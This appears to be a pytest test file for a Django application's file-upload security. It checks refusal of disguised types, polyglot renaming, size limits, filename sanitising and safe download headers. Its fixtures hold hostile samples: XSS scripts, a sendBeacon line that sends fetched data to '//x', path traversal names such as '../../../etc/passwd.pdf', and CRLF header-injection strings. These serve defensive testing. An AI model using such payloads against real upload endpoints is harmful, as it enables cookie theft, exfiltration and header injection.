"""Upload attacks: disguised types, polyglots, oversize files, path tricks in names; and the exact
headers a file is served with (only to its owner and to staff who may view applications)."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications.models import Attachment
from applications.uploads import MAX_NAME_LENGTH, check_upload, sanitize_filename
from tests.factories import AttachmentFactory

UPLOAD_URL = reverse("applications:section", args=["attachments"])
TYPE_REFUSED = "不支持该文件类型，请上传 PDF, PNG, JPEG, Excel (.xlsx/.xls) 文件。"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def zip_bytes(**members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DISGUISED = {
    "html as pdf": ("report.pdf", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
    "javascript as png": ("logo.png", b"fetch('/status/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"),
    "svg as png": ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "zip as xlsx": ("data.xlsx", zip_bytes(**{"payload.exe": b"MZ\x90\x00"})),
    "docx as xlsx": ("data.xlsx", zip_bytes(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
    "exe as pdf": ("licence.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),
    "elf as jpg": ("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
    "gif as png": ("anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    "plain text as pdf": ("note.pdf", "营业执照".encode() * 10),
}


@pytest.fixture
def owner_client(client, draft):
    client.force_login(draft.applicant)
    return client


def upload(client, name, content):
    return client.post(UPLOAD_URL, {"file": SimpleUploadedFile(name, content, content_type="application/pdf"),
                                    "description": ""})


@pytest.mark.parametrize("attack", list(DISGUISED))
def test_disguised_file_types_are_refused_and_nothing_is_stored(owner_client, draft, inside_window, attack):
    name, content = DISGUISED[attack]

    response = upload(owner_client, name, content)

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [TYPE_REFUSED]
    assert Attachment.objects.filter(application=draft).count() == 0


def test_pdf_polyglot_with_an_exe_name_is_stored_as_pdf_under_a_pdf_name(owner_client, draft, inside_window):
    content = PDF + b"<html><script>alert(1)</script></html>"

    upload(owner_client, "setup.exe", content)

    attachment = Attachment.objects.get(application=draft)
    assert (attachment.original_name, attachment.content_type) == ("setup.exe.pdf", "application/pdf")


@pytest.mark.parametrize(("size_mb", "extra", "stored"), [(1, 0, 1), (1, 1, 0)])
def test_size_limit_holds_at_the_exact_byte(owner_client, draft, inside_window, size_mb, extra, stored):
    draft.campaign.attachment_max_mb = size_mb
    draft.campaign.save(update_fields=["attachment_max_mb"])
    content = PDF + b"0" * (size_mb * 1024 * 1024 - len(PDF) + extra)

    upload(owner_client, "big.pdf", content)

    assert Attachment.objects.filter(application=draft).count() == stored


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("/var/www/static/index.pdf", "index.pdf"),
        ("C:\\Windows\\System32\\drivers.pdf", "drivers.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe.pdf"),  # RIGHT-TO-LEFT OVERRIDE: shows as "invoiceexe.pdf"
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ("tab\tand\nnewline\r.pdf", "tabandnewline.pdf"),
        # The multipart parser already cuts a name at its quotes and semicolons.
        ('quote"semi;colon.pdf', '"quote"semi.pdf'),
    ],
)
def test_path_and_control_tricks_in_names_are_neutralised(owner_client, draft, inside_window, name, shown):
    upload(owner_client, name, PDF)

    attachment = Attachment.objects.get(application=draft)
    assert attachment.original_name == shown
    assert attachment.file.name.startswith(f"applications/{draft.pk}/")
    assert ".." not in attachment.file.name
    assert shown not in attachment.file.name


def test_nul_byte_and_very_long_names_are_cut(campaign):
    nul = check_upload(SimpleUploadedFile("evil.pdf\x00.html", PDF), campaign=campaign)
    long = check_upload(SimpleUploadedFile("名" * 500 + ".pdf", PDF), campaign=campaign)

    assert nul.name == "evil.pdf.html.pdf"
    assert (len(long.name), long.name.endswith(".pdf")) == (MAX_NAME_LENGTH, True)
    assert sanitize_filename("\x00\u202e/..") == "file"


def test_file_is_served_with_safe_headers(owner_client, draft, inside_window):
    upload(owner_client, "营业执照 2024.pdf", PDF)
    attachment = Attachment.objects.get(application=draft)

    response = owner_client.get(reverse("applications:attachment", args=[attachment.pk]))

    assert b"".join(response.streaming_content) == PDF
    assert {key: response[key] for key in (
        "Content-Type", "Content-Disposition", "X-Content-Type-Options", "Cache-Control", "Content-Security-Policy",
    )} == {
        "Content-Type": "application/pdf",
        "Content-Disposition": (
            "attachment; filename=\"____ 2024.pdf\"; "
            "filename*=UTF-8''%E8%90%A5%E4%B8%9A%E6%89%A7%E7%85%A7%202024.pdf"
        ),
        "X-Content-Type-Options": "nosniff",
        "Cache-Control": "private, no-store",
        "Content-Security-Policy": "sandbox; default-src 'none'; frame-ancestors 'none'",
    }


def test_quotes_and_newlines_in_a_stored_name_cannot_break_out_of_the_header(owner_client, draft, inside_window):
    attachment = AttachmentFactory(application=draft, original_name='a";filename=evil.html;x=".pdf\r\nSet-Cookie: x=1')

    response = owner_client.get(reverse("applications:attachment", args=[attachment.pk]))

    assert response["Content-Disposition"] == (
        # Inside the quoted string a ";" is harmless; the quote and CR LF that could end it are replaced.
        "attachment; filename=\"a_;filename=evil.html;x=_.pdf__Set-Cookie: x=1\"; "
        "filename*=UTF-8''a%22%3Bfilename%3Devil.html%3Bx%3D%22.pdf%0D%0ASet-Cookie:%20x%3D1"
    )
    assert "Set-Cookie" not in response.cookies
